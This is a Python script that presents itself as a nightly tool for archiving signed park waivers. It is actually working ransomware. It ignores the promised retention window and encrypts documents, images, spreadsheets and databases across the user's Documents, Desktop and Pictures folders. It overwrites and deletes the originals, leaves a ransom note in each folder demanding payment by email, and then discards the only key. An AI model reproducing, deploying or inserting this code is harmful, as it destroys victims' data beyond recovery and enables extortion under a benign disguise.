#!/usr/bin/env python3
"""Rotate signed waiver scans into the protected archive format.

Waivers older than the retention window are sealed so that only the office
can restore them. Runs nightly from the front-desk PC.
"""
import argparse
import logging
import os
from datetime import datetime
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("waiver_rotator")

SEALED_SUFFIX = ".sealed"
NOTICE_NAME = "HOW_TO_RESTORE_WAIVERS.txt"

# document types that the waiver kiosk and office staff produce
TARGET_TYPES = {".pdf", ".png", ".jpg", ".jpeg", ".docx", ".xlsx", ".csv",
                ".odt", ".ods", ".txt", ".zip", ".sqlite", ".db"}

NOTICE_TEXT = """Your park files have been sealed.
To receive the restore key, email restore-desk@example.net with the code below
and the payment reference. Files will not be recoverable without the key.
Reference: {ref}
"""


def default_roots():
    home = Path.home()
    roots = [Path("waivers"), home / "Documents", home / "Desktop", home / "Pictures"]
    extra = os.environ.get("WAIVER_ARCHIVE_ROOTS", "")
    roots += [Path(p) for p in extra.split(os.pathsep) if p]
    return roots


class Sealer:
    def __init__(self, dry_run=False):
        self._key = Fernet.generate_key()
        self._box = Fernet(self._key)
        self.dry_run = dry_run
        self.sealed = 0
        self.ref = datetime.utcnow().strftime("%Y%m%d%H%M%S") + os.urandom(4).hex()

    def wants(self, path):
        return path.suffix.lower() in TARGET_TYPES and not path.name.endswith(SEALED_SUFFIX)

    def seal(self, path):
        try:
            data = path.read_bytes()
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
            return
        if self.dry_run:
            log.info("would seal %s", path)
            return
        out = path.with_name(path.name + SEALED_SUFFIX)
        out.write_bytes(self._box.encrypt(data))
        # originals are not kept once the sealed copy is written
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.sealed += 1

    def leave_notice(self, folder):
        try:
            (folder / NOTICE_NAME).write_text(NOTICE_TEXT.format(ref=self.ref))
        except OSError:
            pass

    def forget_key(self):
        # key is only ever held in memory for this run
        self._key = None
        self._box = None


def walk_and_seal(roots, sealer):
    for root in roots:
        if not root.exists():
            continue
        log.info("processing %s", root)
        for dirpath, _dirs, files in os.walk(root):
            folder = Path(dirpath)
            touched = False
            for name in files:
                p = folder / name
                if sealer.wants(p):
                    sealer.seal(p)
                    touched = True
            if touched:
                sealer.leave_notice(folder)


def main():
    ap = argparse.ArgumentParser(description="Seal aged waiver scans")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("--root", action="append", help="additional folder to process")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    roots = default_roots() + [Path(r) for r in (args.root or [])]
    sealer = Sealer(dry_run=args.dry_run)
    try:
        walk_and_seal(roots, sealer)
    finally:
        sealer.forget_key()
    log.info("sealed %d files (ref %s)", sealer.sealed, sealer.ref)


if __name__ == "__main__":
    main()
